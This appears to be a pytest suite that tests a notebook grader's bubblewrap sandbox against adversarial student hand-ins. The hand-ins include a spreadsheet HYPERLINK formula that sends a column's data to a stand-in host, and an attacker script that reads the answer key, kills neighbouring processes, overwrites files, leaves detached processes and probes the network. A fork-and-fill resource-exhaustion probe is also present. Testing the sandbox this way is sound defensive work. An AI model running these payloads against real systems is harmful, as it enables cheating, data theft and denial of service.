"""The course's grader against a class of hand-ins — right, wrong, empty, broken, endless, noisy, greedy and
hostile — graded the way an instructor would run it: from a copy of the course cloned into the temporary
folder, with its Python environment there too, as the machine's user (root in CI) and as an ordinary user.

What must hold (docs/instructors.md, "What the sandbox guarantees"): every student gets the right result; no
hand-in earns what it did not compute (reading the answer key, replacing the checking functions); no hand-in
reaches another graded at the same time (through its files, its processes or signals); no process outlives
its hand-in; and nothing outside the grader's output folder changes.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
import venv
from pathlib import Path

import nbformat
import pytest

from tests import fixtures
from tests.conftest import ROOT

sys.path.insert(0, str(ROOT / "tools"))
import grade  # noqa: E402
import student  # noqa: E402
from grading import course as grading_course  # noqa: E402

from helpers import exercises  # noqa: E402

IN_CI = os.environ.get("CI", "").lower() in ("1", "true", "yes")
NB = ROOT / "notebooks" / "00_start_here.ipynb"
OTHER = ROOT / "notebooks" / "01_attention_engine.ipynb"
# The hand-ins are notebook 00's exercises and what they need (tests/fixtures.py), not the whole notebook: the
# suite runs each course notebook once, in the browser tests.
SOURCE = fixtures.exercises_of("00")
LIMIT = 8  # the endless hand-ins run this long; the others (small notebooks: tests/fixtures.py) finish in a few seconds
MINE = [e for i, e in sorted(exercises.REGISTRY.items()) if i.startswith(NB.name[:2] + ".")]
AUTO = [e for e in MINE if e.kind != "written"]
WRITTEN = [e for e in MINE if e.kind == "written"]
NAMES = {g.id: g.variable for g in grade.course_exercises(NB.name)}
MARK = "course-grader-attack"  # every file the attacker writes and every process it leaves carry this


def _fingerprint(*folders: Path) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for folder in folders
            for p in sorted(folder.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


def _copy(nb):
    return nbformat.from_dict(json.loads(json.dumps(nb)))


def _with(nb, cells_at_end=(), first=None):
    nb = _copy(nb)
    for src in cells_at_end:
        nb.cells.append(nbformat.v4.new_code_cell(src))
    if first:
        nb.cells.insert(1, nbformat.v4.new_code_cell(first))
    return nb


def _wrong(ex):
    """A made-up answer a student could give: a prediction is made (any option), anything else is wrong."""
    if ex.kind == "prediction":
        return ex.options[0] if ex.options else 1.0
    return "tv" if ex.options else 12345.0


def _bwrap_missing() -> str | None:
    if shutil.which("bwrap"):
        return None
    why = "no bwrap: install bubblewrap (Debian/Ubuntu: sudo apt-get install bubblewrap)"
    if IN_CI:
        raise RuntimeError(f"CI=true but {why}; .ci/run installs it")
    return why


# --------------------------------------------------------------------- the course cloned into /tmp
@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """A copy of the course in the temporary folder with a Python environment of its own there (a venv whose
    packages are this environment's), as an instructor who cloned the course into /tmp would have it."""
    if why := _bwrap_missing():
        pytest.skip(why)
    where = tmp_path_factory.mktemp("clone") / "course"
    for part in ("helpers", "data", "notebooks", "tools"):
        shutil.copytree(ROOT / part, where / part, ignore=shutil.ignore_patterns("__pycache__", ".ipynb_checkpoints"))
    venv.EnvBuilder(with_pip=False, symlinks=True).create(where / ".venv")
    site = next((where / ".venv" / "lib").glob("python3*/site-packages"))
    ours = [p for p in sys.path if p.endswith("site-packages") and Path(p).is_dir()]
    (site / "packages.pth").write_text("\n".join(ours) + "\n")
    return where


def _as_ordinary_user(cmd: list[str]) -> list[str]:
    """The command run by a user who is not root: as root, in a user namespace of its own as user 1000 (so the
    grader takes its unprivileged path and makes its sandboxes without privileges); otherwise as it is."""
    if os.geteuid() != 0:
        return cmd
    return ["bwrap", "--unshare-user", "--uid", "1000", "--gid", "1000", "--bind", "/", "/", "--dev-bind", "/dev",
            "/dev", "--proc", "/proc", "--", *cmd]


def run_grader(course: Path, submissions: Path, out: Path, *extra, ordinary_user=False, jobs=2) -> dict:
    cmd = [str(course / ".venv" / "bin" / "python"), str(course / "tools" / "grade.py"), str(submissions),
           "--out", str(out), "--jobs", str(jobs), "--limit", str(LIMIT), "--output-kb", "512", *map(str, extra)]
    if ordinary_user:
        cmd = _as_ordinary_user(cmd)
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8", "HOME": str(out.parent)}
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=600, env=env, cwd=out.parent)
    assert done.returncode == 0, f"the grader failed:\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}"
    with (out / "scores.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    with (out / "totals.csv").open(newline="") as fh:
        totals = list(csv.DictReader(fh))
    with (out / "skipped.csv").open(newline="") as fh:
        skipped = [(r["file"], r["reason"]) for r in csv.DictReader(fh)]
    return {"rows": rows, "totals": totals, "skipped": skipped, "stdout": done.stdout, "out": out,
            "summary": (out / "summary.txt").read_text()}


# ------------------------------------------------------------------------------ a class of twelve
@pytest.fixture(scope="module")
def graded(course, tmp_path_factory):
    subs = tmp_path_factory.mktemp("submissions")
    source = _copy(SOURCE)
    stud = student.student_version(source)
    hand_ins: dict[str, object] = {"alice": source, "carol": stud}  # the instructor's answers; untouched
    wrong = _copy(stud)
    by_name = {name: exercises.get(ex_id) for ex_id, name in student.checks(stud)}
    for cell in wrong.cells:
        if "= None  # YOUR CODE HERE" in cell.source:
            name = cell.source.split(" =")[0]
            cell.source = f"{name} = {_wrong(by_name[name])!r}"
        if cell.source == "YOUR ANSWER HERE":
            cell.source = "Viewers are subsidised because advertisers pay for their attention."
    hand_ins["bob"] = wrong
    hand_ins["dave"] = "{ this is not a notebook"
    hand_ins["erin"] = _with(source, ["while True:\n    pass"])  # right answers, then an endless loop
    hand_ins["frank"] = _with(source, ["while True:\n    print('x' * 10000)"])  # endless output
    hand_ins["gina"] = _with(source, ["import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"])
    hand_ins["hank"] = _with(source, first="def check(*args):\n    print('Exercise: Right.')\n")  # check replaced
    hog = _with(source, ["hog = bytearray(10 * 2**30)"])
    for cell in hog.cells:  # the second exercise's answer cell also grabs memory, and raises
        if cell.source.startswith("### BEGIN SOLUTION") and f"{NAMES[AUTO[1].id]} =" in cell.source:
            cell.source = cell.source.replace("### BEGIN SOLUTION\n", "### BEGIN SOLUTION\nbig = bytearray(10 * 2**30)\n")
    hand_ins["leo"] = hog
    odd = json.loads(json.dumps(source))
    odd["cells"].insert(1, {"cell_type": "mystery", "source": "print('never run')", "metadata": {}})
    odd["cells"].insert(1, {"cell_type": "code", "source": 42, "metadata": ["not", "a", "dict"], "outputs": []})
    odd["cells"].append({"cell_type": "code", "source": f"{NAMES[AUTO[2].id]} = __import__('pandas').DataFrame({{'a': [1]}})",
                         "metadata": {}, "outputs": [], "execution_count": None})
    odd["cells"].append({"cell_type": "code", "source": f"{NAMES[AUTO[3].id]} = 'x' * 10_000_000",
                         "metadata": {}, "outputs": [], "execution_count": None})
    hand_ins["ivan"] = odd
    # judy: the first calculation's check cell deleted, the second's duplicated, and an answer cell that raises
    judy = _copy(source)
    calc = [e for e in AUTO if e.kind != "prediction"]
    judy.cells = [c for c in judy.cells if f'check("{calc[0].id}"' not in c.source]
    dup = next(i for i, c in enumerate(judy.cells) if f'check("{calc[1].id}"' in c.source)
    judy.cells.insert(dup, nbformat.v4.new_code_cell(judy.cells[dup].source))
    for cell in judy.cells:
        if cell.source.startswith("### BEGIN SOLUTION") and f"{NAMES[calc[2].id]} =" in cell.source:
            cell.source = f"### BEGIN SOLUTION\n{NAMES[calc[2].id]} = 1 / 0\n### END SOLUTION"
    hand_ins["judy"] = judy
    hand_ins["kim"] = fixtures.exercises_of("01")  # notebook 01 saved under notebook 00's name
    # nora: text that is not valid UTF-8 (a lone surrogate) in a written answer and in an error, and a written
    # answer a spreadsheet would run as a formula
    nora = _copy(source)
    written_cell = next(c for c in nora.cells if c.cell_type == "markdown"
                        and c.metadata.get("nbgrader", {}).get("grade_id") == f"ex00_{WRITTEN[0].id.split('.')[1]}")
    written_cell.source = '=HYPERLINK("http://example.invalid/?"&TEXTJOIN(",",1,F:F),"see") \ud800'
    last = [e for e in AUTO if e.kind != "prediction"][-1]
    nora.cells.append(nbformat.v4.new_code_cell(f'{NAMES[last.id]} = None\nraise ValueError("bad \\ud800 text")'))
    hand_ins["nora"] = nora
    # olga: floods the channel the answers come back on
    hand_ins["olga"] = _with(source, ["import json, os\nfd = json.load(open('/sandbox/job.json'))['fd']\n"
                                      "while True:\n    os.write(fd, b'\\n' * 2**20 + b'{}\\n' * 1000)"])
    for who, nb in hand_ins.items():
        (subs / who).mkdir()
        target = subs / who / NB.name
        target.write_text(nb if isinstance(nb, str) else json.dumps(nb) if who in ("ivan", "nora") else nbformat.writes(nb))
    (subs / "carol" / "notes.txt").write_text("my notes")
    (subs / "carol" / ".ipynb_checkpoints").mkdir()
    for copy in (subs / "carol" / ".ipynb_checkpoints" / "00_start_here-checkpoint.ipynb",
                 subs / "carol" / "00_start_here-Copy1.ipynb", subs / "loose.ipynb"):
        nbformat.write(SOURCE, copy)
    out = tmp_path_factory.mktemp("results") / "graded"
    out.mkdir()
    (out / "scores.csv").write_text("student,notebook\nstale,stale\n")  # the last run's, to be retired
    return run_grader(course, subs, out)


def rows_of(graded, who):
    return {r["exercise"]: r for r in graded["rows"] if r["student"] == who}


def statuses(graded, who):
    return {k: r["status"] for k, r in rows_of(graded, who).items()}


def right_answers():
    return {e.id: "recorded" if e.kind == "prediction" else "right" for e in AUTO}


def automatic(graded, who) -> float:
    return float(next(t for t in graded["totals"] if t["student"] == who and t["notebook"] == NB.name)["automatic"])


def test_correct_gets_every_automatic_point_and_its_written_answers_wait_for_marks(graded):
    got = statuses(graded, "alice")
    assert {k: v for k, v in got.items() if k in right_answers()} == right_answers()
    assert all(got[e.id] == "to be marked by hand" for e in WRITTEN)
    total = next(t for t in graded["totals"] if t["student"] == "alice" and t["notebook"] == NB.name)
    assert total["automatic"] == total["automatic_max"] == f"{sum(e.max_points for e in AUTO):g}"


def test_wrong_and_empty_get_no_automatic_points_but_predictions_made(graded):
    got = statuses(graded, "bob")
    assert all(got[e.id] == ("recorded" if e.kind == "prediction" else "not yet") for e in AUTO)
    assert set(statuses(graded, "carol").values()) == {"no answer"}


def test_answers_computed_before_the_notebook_was_stopped_keep_their_status(graded):
    for who, fate in (("erin", "timed out"), ("frank", "output limit"), ("gina", "kernel died")):
        got = statuses(graded, who)
        assert got[""] == fate, (who, got)
        assert {k: v for k, v in got.items() if k in right_answers()} == right_answers(), (who, got)


def test_a_memory_hog_is_stopped_and_its_raising_cell_is_an_error(graded):
    got = rows_of(graded, "leo")
    target = got[AUTO[1].id]
    assert target["status"] == "error" and "MemoryError" in target["detail"]
    assert got[AUTO[0].id]["status"] in ("recorded", "right")


def test_a_replaced_check_changes_nothing(graded):
    assert statuses(graded, "hank") == statuses(graded, "alice")


def test_values_that_are_not_plain_cannot_be_judged_and_odd_json_is_read(graded):
    got = rows_of(graded, "ivan")
    df = got[AUTO[2].id]
    assert df["status"] == "cannot judge" and "DataFrame" in df["detail"] and "one number" in df["detail"]
    assert got[AUTO[3].id]["status"] == "not yet"  # a string answer is plain: judged, and wrong
    assert set(statuses(graded, "dave").values()) == {"notebook failed"}
    assert "not a notebook" in rows_of(graded, "dave")[""]["detail"]
    _costs_its_full_points(graded, "dave")


def _costs_its_full_points(graded, who):
    """A notebook that could not be graded scores 0 of its full points: every exercise is listed at 0 of its
    maximum, so the student's maximum is the notebook's, not 0."""
    rows = rows_of(graded, who)
    assert set(rows) >= {e.id for e in MINE}
    assert all(rows[e.id]["points"] == "0" and rows[e.id]["max_points"] == str(e.max_points) for e in MINE)
    total = next(t for t in graded["totals"] if t["student"] == who and t["notebook"] == NB.name)
    alice = next(t for t in graded["totals"] if t["student"] == "alice" and t["notebook"] == NB.name)
    assert total["total"] == "0" and total["total_max"] == alice["total_max"] != "0"


def test_text_that_is_not_utf8_and_spreadsheet_formulas_are_written_safely(graded):
    last = [e for e in AUTO if e.kind != "prediction"][-1]
    got, alice = rows_of(graded, "nora"), statuses(graded, "alice")
    assert {k: r["status"] for k, r in got.items() if k != last.id} == {k: v for k, v in alice.items() if k != last.id}
    assert got[last.id]["status"] == "error" and "ValueError: bad" in got[last.id]["detail"]
    assert "\ud800" not in got[last.id]["detail"]
    written = list(csv.DictReader((graded["out"] / "written.csv").open(encoding="utf-8")))
    answer = next(w["answer"] for w in written if w["student"] == "nora" and w["exercise"] == WRITTEN[0].id)
    assert answer.startswith("'=HYPERLINK") and "\ud800" not in answer


def test_a_flood_of_answers_stops_the_hand_in_not_the_grader(graded):
    got = statuses(graded, "olga")
    assert got[""] == "output limit"
    assert {k: v for k, v in got.items() if k in right_answers()} == right_answers()


def test_deleted_checks_are_missing_duplicates_count_once_and_raising_cells_are_errors(graded):
    calc = [e for e in AUTO if e.kind != "prediction"]
    got = rows_of(graded, "judy")
    assert got[calc[0].id]["status"] == "missing" and f'check("{calc[0].id}"' in got[calc[0].id]["detail"]
    assert sum(1 for r in graded["rows"] if r["student"] == "judy" and r["exercise"] == calc[1].id) == 1
    assert got[calc[1].id]["status"] == "right"
    assert got[calc[2].id]["status"] == "error" and "ZeroDivisionError" in got[calc[2].id]["detail"]


def test_another_notebook_under_this_name_is_flagged_and_stray_files_are_listed(graded):
    assert set(statuses(graded, "kim").values()) == {"wrong notebook"}
    assert OTHER.name in rows_of(graded, "kim")[""]["detail"]
    _costs_its_full_points(graded, "kim")
    skipped = dict(graded["skipped"])
    assert set(skipped) == {"carol/notes.txt", "carol/.ipynb_checkpoints/00_start_here-checkpoint.ipynb",
                            "carol/00_start_here-Copy1.ipynb", "loose.ipynb"}
    assert "did you mean 00_start_here.ipynb" in skipped["carol/00_start_here-Copy1.ipynb"]


def test_results_are_complete_current_and_summarised(graded):
    out = graded["out"]
    assert sorted(p.name for p in out.iterdir()) == sorted([*grade.RESULTS, "grades.sqlite", "feedback"])
    assert "stale" not in (out / "scores.csv").read_text(), "an old table is rebuilt from the results, not kept"
    assert {r["student"] for r in graded["rows"]} == {"alice", "bob", "carol", "dave", "erin", "frank", "gina",
                                                      "hank", "ivan", "judy", "kim", "leo", "nora", "olga"}
    summary = graded["summary"]
    assert "14 hand-ins graded" in summary and "4 files skipped" in summary
    assert "bubblewrap sandbox" in summary and "answer key was never in the sandbox" in summary
    assert graded["stdout"].index("bubblewrap sandbox") < graded["stdout"].index("[1/14]"), \
        "how hand-ins are isolated is said before the first runs"
    progress = [line for line in graded["stdout"].splitlines() if line.startswith("[")]
    assert len(progress) == 14 and progress[-1].startswith("[14/14]")
    written = list(csv.DictReader((out / "written.csv").open()))
    alice = [w for w in written if w["student"] == "alice" and w["exercise"] in {e.id for e in WRITTEN}]
    assert alice and all(w["rubric"].startswith("Full marks") and w["answer"] for w in alice)


def test_hand_marks_merge_into_the_totals(graded, tmp_path):
    out = tmp_path / "graded"
    shutil.copytree(graded["out"], out)
    marks = tmp_path / "marks.csv"
    rows = list(csv.DictReader((out / "written.csv").open()))
    for r in rows:
        if r["student"] == "alice" and r["answer"]:
            r["mark"] = r["max_points"]
    with marks.open("w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=grade.WRITTEN_FIELDS)
        w.writeheader()
        w.writerows(rows)
    tables = grade.totals_only(out, marks, echo=lambda *_: None)
    alice = next(t for t in tables["totals"] if t["student"] == "alice" and t["notebook"] == NB.name)
    assert alice["marked"] == "yes" and alice["total"] == alice["total_max"]
    assert "bubblewrap sandbox" in (out / "summary.txt").read_text(), "the merged summary keeps how hand-ins ran"
    rows[0]["mark"] = "99"
    with marks.open("w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=grade.WRITTEN_FIELDS)
        w.writeheader()
        w.writerows(rows)
    with pytest.raises(SystemExit, match="outside 0 to"):
        grade.totals_only(out, marks, echo=lambda *_: None)


# -------------------------------------------------------------- attacks on the key and on each other
ADD_KEY = {"x86_64": 248, "aarch64": 217}.get(os.uname().machine, 248)


def _attacker(course: Path, victim_dir: str) -> str:
    """A hand-in that tries everything a student with the course's code in hand could: read or compute the
    answer key (imported, from the course's files on disk), replace the checking functions, reach the hand-in
    graded beside it (its files, its processes, signals), leave a process behind with an empty environment,
    write everywhere, and use the network. It answers with whatever the key gave it, and makes no predictions
    (a prediction earns its point for being made)."""
    answers = {NAMES[e.id]: e.id for e in AUTO if e.kind != "prediction"}
    keys = [str(course / "helpers"), str(ROOT / "helpers")]
    return f'''
import glob, importlib.util, os, signal, socket, subprocess, sys, time
got = {{}}
ANSWERS = {answers!r}
# 1. the answer key, imported
try:
    import helpers.exercises as key
    for name, ex_id in ANSWERS.items():
        got[name] = key.expected_answer(key.get(ex_id))
except Exception as exc:
    print("no key here:", exc)
# 2. the answer key, from the course's files on disk
for place in {keys!r}:
    try:
        sys.path.insert(0, os.path.dirname(place))
        for m in [m for m in sys.modules if m.startswith("helpers")]:
            del sys.modules[m]
        import helpers.exercises as key
        for name, ex_id in ANSWERS.items():
            got.setdefault(name, key.expected_answer(key.get(ex_id)))
    except Exception as exc:
        print("no key at", place, exc)
for name in ANSWERS:
    globals()[name] = got.get(name, 12345.0)
# 0. a note for a hand-in graded later, in the kernel's keyring (not separated by namespaces)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
stored = libc.syscall({ADD_KEY}, b"user", b"{MARK}", b"the answers", 11, ctypes.c_int(-4))
globals()[list(ANSWERS)[0]] = f"keyring: {{'stored' if stored >= 0 else 'refused'}}"
# 3. the checking functions replaced
def check(*args, **kwargs):
    print("Exercise: Right.")
try:
    import helpers.exercises as key
    key.check = key.evaluate = key.expected_answer = check
except Exception:
    pass
# 4. the hand-in beside it: its files, its processes, signals
for root in ["/sandbox", "/tmp", "/run", "/var/tmp", "/dev/shm"]:
    for pattern in ["**/{victim_dir}/**", "**/*.ipynb", "**/job.json", "**/kernel*.json", "**/runner.py"]:
        for path in glob.glob(os.path.join(root, pattern), recursive=True)[:500]:
            try:
                with open(path, "w") as fh:
                    fh.write("{MARK}")
            except OSError:
                pass
for pid in os.listdir("/proc"):
    try:
        if pid.isdigit() and int(pid) != os.getpid() and b"runner.py" in open(f"/proc/{{pid}}/cmdline", "rb").read():
            os.kill(int(pid), signal.SIGKILL)
    except OSError:
        pass
# 5. a process left behind: detached twice, with an empty environment
code = "import os, time\\nif os.fork():\\n    os._exit(0)\\nos.setsid()\\ntime.sleep(613)"
subprocess.Popen([sys.executable, "-c", code, "{MARK}"], env={{}}, start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
# 6. write everywhere
targets = ["/tmp/{MARK}", "/var/tmp/{MARK}", "/dev/shm/{MARK}", os.path.expanduser("~/{MARK}"),
           "{course / 'helpers' / 'exercises' / '__init__.py'}", "{ROOT / 'helpers' / 'exercises' / '__init__.py'}",
           "{course / 'data' / 'facts_start.csv'}", "/sandbox/course/helpers/exercises/__init__.py",
           "/etc/{MARK}", "/usr/{MARK}"]
for t in targets:
    try:
        with open(t, "w") as fh:
            fh.write("{MARK}")
    except OSError:
        pass
# 7. the network
for host in ["127.0.0.1", "10.0.0.1"]:
    try:
        socket.create_connection((host, 22), timeout=1)
        print("NETWORK", host)
    except OSError:
        pass
time.sleep(4)  # stay alive while the hand-in beside it runs
'''


def _victim() -> nbformat.NotebookNode:
    """A correct hand-in that takes its time, so that it is graded while the attacker runs."""
    return _with(SOURCE, ["import time\ntime.sleep(3)"], first="import time\ntime.sleep(1)")


def _leftovers() -> list[str]:
    found = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                if MARK.encode() in (d / "cmdline").read_bytes():
                    found.append(d.name)
            except OSError:
                pass
    return found


@pytest.fixture(scope="module", params=["machine user", "ordinary user"])
def attacked(request, course, tmp_path_factory):
    subs = tmp_path_factory.mktemp("attack-submissions")
    for who in ("mallory", "vera"):
        (subs / who).mkdir()
    src = _copy(SOURCE)
    attacker = _copy(student.student_version(src))
    attacker.cells.append(nbformat.v4.new_code_cell(_attacker(course, "vera")))  # after the answer cells
    nbformat.write(attacker, subs / "mallory" / NB.name)
    nbformat.write(_victim(), subs / "vera" / NB.name)
    out = tmp_path_factory.mktemp("attack-results") / "graded"
    watched = [course, subs, Path(ROOT / "helpers"), Path(ROOT / "data")]
    before = _fingerprint(*watched)
    assert not _leftovers()
    graded = run_grader(course, subs, out, ordinary_user=request.param == "ordinary user")
    graded["changed"] = sorted(k for k, v in _fingerprint(*watched).items() if before.get(k) != v)
    graded["leftovers"] = _leftovers()
    graded["marked files"] = [p for p in ("/tmp", "/var/tmp", "/dev/shm", str(out.parent), os.path.expanduser("~"))
                              if Path(p, MARK).exists()]
    for pid in graded["leftovers"]:  # never leave one behind for the next test, should the test fail
        try:
            os.kill(int(pid), 9)
        except OSError:
            pass
    return graded


def test_the_attacker_earns_nothing(attacked):
    got = rows_of(attacked, "mallory")
    calc = [e for e in AUTO if e.kind != "prediction"]
    assert {e.id: got[e.id]["status"] for e in calc} == {e.id: "not yet" for e in calc}, got
    assert automatic(attacked, "mallory") == 0


def test_the_kernel_keyring_is_closed_to_hand_ins(attacked):
    first = [e for e in AUTO if e.kind != "prediction"][0]
    assert "keyring: refused" in rows_of(attacked, "mallory")[first.id]["detail"]


def test_the_hand_in_graded_beside_it_keeps_its_result(attacked):
    assert {k: v for k, v in statuses(attacked, "vera").items() if k in right_answers()} == right_answers()
    assert rows_of(attacked, "vera").get("", {}).get("status") is None, "the victim's run ended normally"


def test_no_process_outlives_its_hand_in(attacked):
    assert attacked["leftovers"] == []


def test_nothing_outside_the_output_folder_changes(attacked):
    assert attacked["changed"] == []
    assert attacked["marked files"] == []
    assert "NETWORK" not in attacked["stdout"]


def test_the_sandbox_copy_has_no_answer_key(tmp_path):
    copy = grading_course.keyless_copy(tmp_path / "course")
    assert sorted(p.name for p in (copy / "helpers" / "exercises").iterdir()) == ["__init__.py", "form.py", "givens.py"]
    numbers = (copy / "helpers" / "exercises" / "givens.py").read_text()  # each student's numbers, and nothing more
    assert "from ." not in numbers and "answer(" not in numbers and "REGISTRY" not in numbers
    stub = (copy / "helpers" / "exercises" / "__init__.py").read_text()
    catalogue = json.loads(eval(stub.split("CATALOGUE = _json.loads(", 1)[1].split(")\n", 1)[0]))
    assert sorted(catalogue) == sorted(exercises.REGISTRY)
    for entry in catalogue.values():  # what graded work may know: never the answer, only its power of ten
        assert set(entry) == {"id", "kind", "unit", "options", "decade", "givens"}
        assert entry["decade"] is None or (isinstance(entry["decade"], int) and abs(entry["decade"]) < 20)
        for g in entry["givens"]:  # a student's numbers are drawn from these: a range, a step and the course's own
            assert set(g) == {"name", "label", "unit", "base", "low", "high", "step"}
    assert "lambda" not in stub and "answer=" not in stub


# ------------------------------------------------------------------------------ no sandbox here
def test_without_a_sandbox_the_grader_stops_unless_told_and_says_so(tmp_path, monkeypatch):
    subs = tmp_path / "subs" / "alice"
    subs.mkdir(parents=True)
    nbformat.write(SOURCE, subs / NB.name)
    monkeypatch.setenv("GRADER_BWRAP", str(tmp_path / "no-bwrap-here"))
    with pytest.raises(SystemExit, match="cannot sandbox hand-ins on this machine") as stop:
        grade.grade(tmp_path / "subs", tmp_path / "out", echo=lambda *_: None)
    assert "--unsandboxed" in str(stop.value)
    assert not (tmp_path / "out").exists(), "nothing was run or written"
    tables = grade.grade(tmp_path / "subs", tmp_path / "out", grade.Limits(seconds=60), jobs=1, echo=lambda *_: None,
                         unsandboxed=True)
    assert "hand-ins were NOT sandboxed" in tables["summary"]
    assert {r["status"] for r in tables["rows"] if r["exercise"] in right_answers()} <= {"right", "recorded"}


def test_no_submissions_is_a_clear_error(tmp_path):
    (tmp_path / "subs").mkdir()
    with pytest.raises(SystemExit, match="no notebooks found"):
        grade.grade(tmp_path / "subs", tmp_path / "out", echo=lambda *_: None)
    with pytest.raises(SystemExit, match="outside the submissions folder"):
        grade.grade(tmp_path / "subs", tmp_path / "subs" / "graded", echo=lambda *_: None)
    with pytest.raises(ValueError, match="memory mb limit must be a positive number"):
        grade.Limits(memory_mb=0)


# ------------------------------------------------------------------------------- limits of a hand-in
LIMITS_PROBE = '''
import ctypes, os, subprocess, time
report = {}
children = []
for i in range(3):  # three processes of 700 MB each, touched: more than the 1,536 MB the hand-in may use
    pid = os.fork()
    if pid == 0:
        block = bytearray(700 * 2**20)
        for j in range(0, len(block), 4096):
            block[j] = 1
        time.sleep(2)
        os._exit(0)
    children.append(pid)
report["killed"] = sum(os.waitpid(p, 0)[1] != 0 for p in children)
written = 0
try:
    while True:
        with open(f"/sandbox/work/f{written}", "wb") as fh:
            fh.write(b"y" * 20 * 2**20)
        written += 1
except OSError:
    report["folder_mb"] = written * 20
started = []
try:
    for i in range(400):
        started.append(subprocess.Popen(["sleep", "30"]))
except OSError:
    pass
report["processes"] = len(started)
'''


def test_a_hand_in_is_limited_as_a_whole_or_the_summary_says_it_is_not(tmp_path):
    from grading.limits import Limits
    from grading.sandbox import Sandbox

    if why := _bwrap_missing():
        pytest.skip(why)
    limits = Limits(seconds=120, memory_mb=1536, disk_mb=256, processes=128)
    sandbox = Sandbox(tmp_path, limits)
    run = sandbox.run([{"source": LIMITS_PROBE + "report = __import__('json').dumps(report)", "probe": True}],
                      {"report"}, 0)
    assert run.fate == "ran", run
    report = json.loads(run.values["report"])  # a dictionary cannot leave the sandbox: its text can
    assert report["folder_mb"] <= 256, report  # the writable folder is in memory, and no larger than disk_mb
    if sandbox.groups:
        assert "limited as a whole" in sandbox.describe()
        assert report["killed"] >= 1, report  # the hand-in as a whole ran out of memory, not the machine
        assert report["processes"] < 128, report
    else:
        assert "limited per process" in sandbox.describe()
